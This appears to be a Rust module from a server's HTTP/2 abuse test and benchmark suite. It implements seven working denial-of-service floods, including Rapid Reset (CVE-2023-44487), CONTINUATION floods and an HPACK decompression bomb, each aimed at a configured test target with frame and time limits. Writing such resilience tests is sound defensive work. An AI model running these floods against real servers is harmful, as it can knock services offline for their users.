//! The HTTP/2 attacks of the abuse tests and benchmark (`h2_abuse`), each from one
//! connection written frame by frame (`h2raw`):
//!
//! - `RapidReset` (CVE-2023-44487): a request, then its RST_STREAM at once, over and over.
//! - `ContinuationFlood` (the CVE-2024-27316 class): one HEADERS without END_HEADERS, then
//!   CONTINUATION frames that never end the block.
//! - `HugeHeaderBlock`: a header block of 16 KiB literal fields, frame after frame.
//! - `HpackBomb`: one field put in the dynamic table, then referenced by one byte each until
//!   the decoded list is thousands of times the block.
//! - `SettingsFlood` / `PingFlood`: control frames that each ask for an acknowledgement.
//! - `ClosedWindow`: SETTINGS_INITIAL_WINDOW_SIZE 0, never a WINDOW_UPDATE, and request
//!   after request whose answers can then never be sent.

use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use super::h2raw::{
    Attacker, CANCEL, FloodEnd, Hpack, SETTINGS_INITIAL_WINDOW_SIZE, Seen, continuation, headers,
    ping, rst_stream, settings,
};
use super::payshim::STOREFRONT_KEY;

/// The order id of the attacker's requests, so the upstream's record tells them apart.
pub const ATTACK_ORDER: &str = "0a77ac4e-0000-4000-8000-00000000a77a";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    RapidReset,
    ContinuationFlood,
    HugeHeaderBlock,
    HpackBomb,
    SettingsFlood,
    PingFlood,
    ClosedWindow,
}

/// Where an attack goes and how far it may go.
#[derive(Debug, Clone)]
pub struct Target {
    pub addr: SocketAddr,
    pub ca_pem: String,
    /// Source address (another loopback address keeps the attacker off the normal client's
    /// per-address connection count).
    pub local: Option<IpAddr>,
    /// At most this many frames per connection.
    pub max_frames: u64,
    /// At most this long per connection.
    pub guard: Duration,
    /// A write blocked this long means the server stopped reading.
    pub stall: Duration,
    /// Whether the attacker reads what the server sends.
    pub read: bool,
}

/// How one connection's attack went.
#[derive(Debug, Clone)]
pub struct Outcome {
    pub end: FloodEnd,
    pub seen: Seen,
}

impl Attack {
    pub const ALL: [Attack; 7] = [
        Attack::RapidReset,
        Attack::ContinuationFlood,
        Attack::HugeHeaderBlock,
        Attack::HpackBomb,
        Attack::SettingsFlood,
        Attack::PingFlood,
        Attack::ClosedWindow,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::RapidReset => "rapid-reset",
            Attack::ContinuationFlood => "continuation-flood",
            Attack::HugeHeaderBlock => "huge-header-block",
            Attack::HpackBomb => "hpack-bomb",
            Attack::SettingsFlood => "settings-flood",
            Attack::PingFlood => "ping-flood",
            Attack::ClosedWindow => "closed-window",
        }
    }

    /// Connects and runs the attack on that one connection until it ends (see `flood`).
    pub async fn run(self, target: &Target) -> std::io::Result<(Attacker, Outcome)> {
        let first: &[(u16, u32)] = match self {
            Attack::ClosedWindow => &[(SETTINGS_INITIAL_WINDOW_SIZE, 0)],
            _ => &[],
        };
        let mut conn = Attacker::connect(
            target.addr,
            &target.ca_pem,
            target.local,
            target.read,
            first,
        )
        .await?;
        let (max, stall, guard) = (target.max_frames, target.stall, target.guard);
        let end = match self {
            Attack::RapidReset => conn.flood(rapid_reset(), max, stall, guard).await,
            Attack::ContinuationFlood => conn.flood(continuation_flood(), max, stall, guard).await,
            Attack::HugeHeaderBlock => conn.flood(huge_header_block(), max, stall, guard).await,
            Attack::HpackBomb => conn.flood(hpack_bomb(), max, stall, guard).await,
            Attack::SettingsFlood => conn.flood(settings_flood(), max, stall, guard).await,
            Attack::PingFlood => conn.flood(ping_flood(), max, stall, guard).await,
            Attack::ClosedWindow => conn.flood(closed_window(), max, stall, guard).await,
        };
        let seen = conn.seen();
        Ok((conn, Outcome { end, seen }))
    }
}

/// `GET /v2/orders/ATTACK_ORDER/transactions` with the storefront key: a request that
/// payshim authenticates and forwards.
fn transactions_request() -> Vec<u8> {
    let mut block = Hpack::request("GET", &format!("/v2/orders/{ATTACK_ORDER}/transactions"));
    block.literal("authorization", &format!("Bearer {STOREFRONT_KEY}"));
    block.0
}

/// Batches of 50 requests, each reset as soon as it is sent.
fn rapid_reset() -> impl FnMut(&mut Vec<u8>) -> u64 {
    let block = transactions_request();
    let mut stream = 1u32;
    move |buf| {
        for _ in 0..50 {
            headers(buf, stream, &block, true, true);
            rst_stream(buf, stream, CANCEL);
            stream += 2;
        }
        100
    }
}

/// A HEADERS frame opening a block, then batches of 100 CONTINUATION frames of one small
/// field each, never ending the block.
fn continuation_flood() -> impl FnMut(&mut Vec<u8>) -> u64 {
    let mut started = false;
    let mut field = Hpack::default();
    field.literal("x-flood", "1");
    move |buf| {
        let mut frames = 0;
        if !started {
            started = true;
            headers(buf, 1, &transactions_request(), true, false);
            frames += 1;
        }
        for _ in 0..100 {
            continuation(buf, 1, &field.0, false);
            frames += 1;
        }
        frames
    }
}

/// A HEADERS frame opening a block, then CONTINUATION frames of one 16 KiB literal field
/// each (the largest frame the server accepts), never ending the block.
fn huge_header_block() -> impl FnMut(&mut Vec<u8>) -> u64 {
    let mut started = false;
    let mut field = Hpack::default();
    field.literal("x-huge", &"h".repeat(16 * 1024 - 16));
    move |buf| {
        if !started {
            started = true;
            headers(buf, 1, &transactions_request(), true, false);
            return 1;
        }
        continuation(buf, 1, &field.0, false);
        1
    }
}

/// A request whose block puts one 4000-byte field in the dynamic table and then refers
/// to it 10,000 times (about 40 MB decoded from 14 KB), one new stream per batch.
fn hpack_bomb() -> impl FnMut(&mut Vec<u8>) -> u64 {
    let mut block = Hpack(transactions_request());
    block.literal_indexed("x-bomb", &"b".repeat(4000));
    for _ in 0..10_000 {
        block.indexed(62);
    }
    let mut stream = 1u32;
    move |buf| {
        headers(buf, stream, &block.0, true, true);
        stream += 2;
        1
    }
}

/// Batches of 100 SETTINGS frames, each changing the initial window size (so each must be
/// applied and acknowledged).
fn settings_flood() -> impl FnMut(&mut Vec<u8>) -> u64 {
    let mut n = 0u32;
    move |buf| {
        for _ in 0..100 {
            n += 1;
            settings(buf, &[(SETTINGS_INITIAL_WINDOW_SIZE, 65_535 + n % 2)]);
        }
        100
    }
}

/// Batches of 100 PINGs.
fn ping_flood() -> impl FnMut(&mut Vec<u8>) -> u64 {
    let mut n = 0u64;
    move |buf| {
        for _ in 0..100 {
            n += 1;
            ping(buf, n);
        }
        100
    }
}

/// Batches of 10 requests for the order's transactions (answered by the upstream with a
/// body), on a connection whose receive window is 0: the answers' bodies can never be sent.
fn closed_window() -> impl FnMut(&mut Vec<u8>) -> u64 {
    let block = transactions_request();
    let mut stream = 1u32;
    move |buf| {
        for _ in 0..10 {
            headers(buf, stream, &block, true, true);
            stream += 2;
        }
        10
    }
}
